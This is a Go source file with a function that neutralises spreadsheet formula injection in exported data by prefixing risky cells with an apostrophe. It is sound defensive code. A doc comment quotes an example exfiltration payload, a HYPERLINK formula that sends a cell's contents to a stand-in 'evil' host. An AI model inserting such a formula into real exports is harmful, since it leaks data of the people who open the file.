package export

import "unicode"

// Neutralize returns s as it will be stored in a text cell.
//
// Spreadsheet programs treat a cell that begins with = + - or @ as a formula
// when it is typed, pasted, edited (F2, Enter) or read from CSV, and a leading
// tab or carriage return is a known way to smuggle such a cell past naive
// filters. Data in Huhang comes partly from students and parents (free-text
// answers, names typed on phones), so a value like
// =HYPERLINK("http://evil/?"&A2,"点击") must never become live in a
// counsellor's spreadsheet. Prefixing a single apostrophe is the OWASP
// recommendation: Excel then shows the text literally, and the prefix
// survives a round trip through CSV.
//
// The rule is deliberately simple: skip leading white space (any Unicode
// space, including the ideographic space U+3000, plus invisible format
// characters such as the BOM and zero-width space, because none of them are
// visible to the person checking the file); if a tab or carriage return is
// met while skipping, or the first visible character is one of = + - @, the
// whole original string gets a leading apostrophe. This also catches a lone
// "-" and negative numbers written as text ("-5"): guessing which of those
// are harmless is exactly where injection filters go wrong, and callers that
// export real numbers should pass int or float64, which are never altered.
// Full-width look-alikes (＝ ＋ － ＠) are left alone: no spreadsheet program
// evaluates them as formulas and they are common in Chinese text.
//
// The result is stable: Neutralize(Neutralize(s)) == Neutralize(s), since a
// string beginning with an apostrophe is never changed.
func Neutralize(s string) string {
	if needsQuote(s) {
		return "'" + s
	}
	return s
}

// needsQuote reports whether s would be read as a formula (see Neutralize).
func needsQuote(s string) bool {
	for _, r := range s {
		switch r {
		case '=', '+', '-', '@', '\t', '\r':
			return true
		}
		if unicode.IsSpace(r) || unicode.Is(unicode.Cf, r) {
			continue
		}
		return false
	}
	return false
}
